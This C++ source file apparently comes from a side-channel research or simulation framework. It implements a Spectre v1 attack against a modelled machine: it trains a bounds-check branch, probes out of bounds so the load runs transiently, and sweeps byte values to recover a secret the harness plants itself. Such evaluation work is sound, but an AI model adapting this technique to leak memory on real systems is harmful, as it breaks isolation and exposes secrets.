#include "core/attacks/spectre_v1.h"

namespace whisper::core {

TetSpectreV1::TetSpectreV1(os::Machine& m, Options opt)
    : ChannelAttack(m, "v1", opt, Polarity::Max, /*default_batches=*/3),
      trainings_per_probe_(opt.trainings_per_probe),
      gadget_(make_spectre_v1_gadget()) {
  install_victim();
}

void TetSpectreV1::install_victim() {
  m_.poke64(kLenAddr, kArrayLen);
  for (std::uint64_t i = 0; i < kArrayLen; ++i)
    m_.poke8(kArrayBase + i, static_cast<std::uint8_t>(i));
}

std::uint64_t TetSpectreV1::probe(std::uint64_t index, int test_value,
                                  AttackResult& r) {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(isa::Reg::RDI)] = kLenAddr;
  regs[static_cast<std::size_t>(isa::Reg::RSI)] = index;
  regs[static_cast<std::size_t>(isa::Reg::RDX)] = kArrayBase;
  regs[static_cast<std::size_t>(isa::Reg::RBX)] =
      static_cast<std::uint64_t>(test_value);
  ++r.probes;
  return run_tote(m_, gadget_, regs);
}

void TetSpectreV1::sweep(std::uint64_t secret_vaddr, int /*batch*/,
                         AttackResult& r) {
  const std::uint64_t oob_index = secret_vaddr - kArrayBase;
  for (int tv = 0; tv <= 255; ++tv) {
    // Train the bounds branch in-bounds (predicted not-taken)…
    for (int t = 0; t < trainings_per_probe_; ++t)
      (void)probe(static_cast<std::uint64_t>(t) % kArrayLen, tv, r);
    // …then probe out of bounds: the access runs transiently.
    analyzer_.add(tv, probe(oob_index, tv, r));
  }
}

void TetSpectreV1::execute(std::span<const std::uint8_t> payload,
                           AttackResult& r) {
  m_.poke_bytes(kArrayBase + kSecretOffset, payload);
  decode_bytes(kArrayBase + kSecretOffset, payload.size(), r);
}

}  // namespace whisper::core
